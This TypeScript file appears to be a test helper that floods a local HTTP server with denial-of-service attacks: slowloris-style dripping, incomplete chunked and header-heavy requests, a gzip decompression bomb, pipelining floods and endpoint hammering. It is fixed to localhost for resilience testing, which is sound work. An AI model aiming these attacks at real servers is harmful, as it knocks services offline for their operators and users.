import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { Attack } from './attack.js';

// This program runs an attack in a separate process, so that the attack delays only the server. It is called as
// `attacker.js ATTACK`, with an Attack as JSON. It runs until it is stopped, but at most for five minutes. It reports
// when all its connections are established or refused.

const LONGEST_MS = 300_000;
setTimeout(() => process.exit(), LONGEST_MS);

const {
  kind,
  port,
  connections,
  addresses = ['127.0.0.1'],
  headers = '',
  path = '/',
  pipelined = 3_000,
}: Attack = JSON.parse(process.argv[2] ?? '');
const SLOW_BYTE_EVERY_MS = 200;
const REOPENED_AFTER_MS = 20;

/** Number of bytes in a long head. It is slightly below the size limit of an HTTP head. */
const HEAD_BYTES = 31_500;
const CHUNKS = 60_000;
const BODY_BYTES = 60_000;
const BOMB = gzipSync(Buffer.alloc(16_000_000));

const get = (target: string, headers = '') => `GET ${target} HTTP/1.1\r\nHost: a\r\n${headers}\r\n`;

/** Sends the next request whenever data arrive. The answers are small enough to arrive in one piece. */
const askAgainAndAgain = (target: string) => (socket: Socket) => {
  socket.on('data', () => socket.write(get(target)));
  socket.write(get(target));
};

const post = (more: string) => `POST ${path} HTTP/1.1\r\nHost: a\r\n${headers}${more}\r\n`;

const chunks = (size: number) => `${size.toString(16)}\r\n${' '.repeat(size)}\r\n`.repeat(CHUNKS / size);

const manyHeaders = (size: number, bytes = HEAD_BYTES) =>
  Array.from({ length: bytes / size }, (_, index) => {
    const name = index.toString(36);
    return `${name}:${'x'.repeat(Math.max(0, size - name.length - 3))}\r\n`;
  }).join('');

/** Sends one byte after another until the connection ends. */
function drip(socket: Socket): void {
  const timer = setInterval(() => socket.write('x'), SLOW_BYTE_EVERY_MS);
  socket.on('close', () => clearInterval(timer));
}

const attacks: Readonly<Record<Attack['kind'], (socket: Socket) => void>> = {
  // None of the following requests is ever complete.
  'one-byte chunks': (socket) => socket.write(post('Transfer-Encoding: chunked\r\n') + chunks(1)),
  'small chunks': (socket) => socket.write(post('Transfer-Encoding: chunked\r\n') + chunks(20)),
  'many headers': (socket) => socket.write(post(manyHeaders(5)).slice(0, -2)),
  'long headers': (socket) => socket.write(post(manyHeaders(400)).slice(0, -2)),
  'no body': (socket) => socket.write(post(`${manyHeaders(400)}Content-Length: ${BODY_BYTES}\r\n`)),
  'slow body': (socket) => {
    socket.write(post(`Content-Length: ${BODY_BYTES}\r\n`));
    drip(socket);
  },
  bombs: (socket) => {
    const length = `Content-Length: ${BOMB.length}\r\n`;
    socket.write(post(`Content-Encoding: gzip\r\n${length}`));
    socket.write(BOMB);
  },
  pipeline: (socket) => {
    socket.pause();
    socket.write(get(path, headers).repeat(pipelined));
  },
  burst: (socket) => {
    burst.add(socket);
    socket.on('close', () => burst.delete(socket));
  },
  hold: (socket) => {
    if (Math.random() < 0.5) return;
    socket.write('GET / HTTP/1.1\r\nHost: a\r\nX: ');
    drip(socket);
  },
  live: askAgainAndAgain('/health/live'),
  metrics: askAgainAndAgain('/metrics'),
  page: askAgainAndAgain('/page'),
  fresh: (socket) => {
    socket.resume();
    socket.write(get('/health/live', 'Connection: close\r\n'));
  },
};

const burst = new Set<Socket>();
const attack = attacks[kind];
let tried = 0;

/** Counts a connection that was made or refused. Reports when that is known of all. */
function count(): void {
  tried += 1;
  if (tried !== connections) return;
  for (const one of burst) one.write(get('/').repeat(pipelined));
  process.stdout.write('all connections were made or refused\n');
}

function open(localAddress: string): void {
  const socket = connect({ port, host: '127.0.0.1', localAddress });
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(open, REOPENED_AFTER_MS, localAddress));
  socket.once('connect', () => {
    attack(socket);
    socket.off('close', count);
    count();
  });
  socket.once('close', count);
}

for (let index = 0; index < connections; index += 1) open(addresses[index % addresses.length] ?? '');
